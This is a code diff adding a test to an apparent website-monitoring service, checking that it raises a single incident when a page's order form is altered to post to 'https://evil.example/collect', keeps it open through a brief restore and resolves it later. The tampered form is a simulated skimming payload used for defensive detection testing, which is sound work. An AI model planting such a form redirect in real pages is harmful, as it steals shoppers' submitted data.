@@ -124,3 +124,38 @@ it('tells of a site that goes away and comes back, and of a job that does not ch
   expect((await fetch(job.target)).status).toBe(200)
   expect(await heard('incident.resolved', 'Backup')).toMatchObject({ incident: { id: missed.incident.id } })
 })
+
+it('tells once of a page that is tampered with, put back for a moment and tampered with again', async () => {
+  const good = '<p>Welcome to the shop</p><form action=/order></form>'
+  let page = good
+  const server = createServer((_request, response) => void response.setHeader('content-type', 'text/html').end(page))
+  const target = `http://127.0.0.1:${await listening(server)}/`
+  const { data } = await read('/locations')
+  const { id } = await make({ name: 'Page', type: 'integrity', target, interval: 3600, locations: [data[0].id] })
+  const looks = async (): Promise<number> => (await read(`/monitors/${id}/checks?limit=100`)).data.length
+  const look = async (content: string): Promise<void> => {
+    page = content
+    const before = await looks()
+    await ask(origin, `/v1/monitors/${id}/check-now`, { key, method: 'POST' })
+    await waitUntil(async () => (await looks()) > before)
+  }
+  await waitUntil(async () => (await looks()) === 1)
+
+  const tampered = good.replace('/order', 'https://evil.example/collect')
+  await look(tampered)
+  const { incident } = await heard('incident.firing', 'Page')
+  expect((await read(`/monitors/${id}/integrity/changes`)).data).toMatchObject([
+    { page: target, kind: 'form_target', item: 'https://evil.example', locations: ['This server'] },
+  ])
+  await look(good)
+  await look(tampered)
+  expect(await incidentsOf(id)).toMatchObject([{ id: incident.id, status: 'firing' }])
+
+  for (let n = 0; n < 3; n++) await look(good)
+  expect(await heard('incident.resolved', 'Page')).toMatchObject({ incident: { id: incident.id } })
+  expect(await incidentsOf(id)).toHaveLength(1)
+  const told = receiver.requests
+    .map((request) => request.json())
+    .filter((one) => one.enrichment.monitor_name === 'Page')
+  expect(told.map(({ event }) => event)).toEqual(['incident.firing', 'incident.resolved'])
+})
